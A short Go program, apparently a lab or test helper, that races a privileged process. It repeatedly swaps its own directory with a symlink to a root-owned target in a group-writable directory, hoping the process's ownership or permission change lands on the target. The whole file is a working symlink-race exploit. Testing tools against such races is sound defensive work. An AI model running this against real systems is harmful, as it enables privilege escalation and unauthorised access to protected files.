//go:build linux

// Command exchange is a user of the lab who wants a directory of root opened: it
// exchanges a directory of its own for a link to that one, in a directory that its
// group can write in, until a file called enough is there.
//
// usage: exchange DIR TARGET
package main

import (
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	n, err := exchange(os.Args[1], os.Args[2])
	if err != nil {
		fmt.Fprintln(os.Stderr, "exchange:", err)
		os.Exit(1)
	}
	fmt.Println(n, "exchanges")
}

func exchange(dir, target string) (n int, err error) {
	const mine, link = "ep-mine", "ep-link"
	if err := os.Chdir(dir); err != nil {
		return 0, err
	}
	if err := errors.Join(os.Mkdir(mine, 0o700), os.Symlink(target, link)); err != nil {
		return 0, err
	}
	own, err := os.Open(mine)
	if err != nil {
		return 0, err
	}
	for ; ; n++ {
		if n%50 == 0 {
			// Or it would be shared once, and there would be nothing left to do.
			if err := errors.Join(own.Chown(-1, os.Getgid()), own.Chmod(0o700)); err != nil {
				return n, err
			}
			if _, err := os.Lstat("enough"); err == nil {
				return n, errors.Join(os.Remove("enough"), os.Remove(mine), os.Remove(link))
			}
		}
		if err := unix.Renameat2(unix.AT_FDCWD, mine, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			return n, err
		}
	}
}
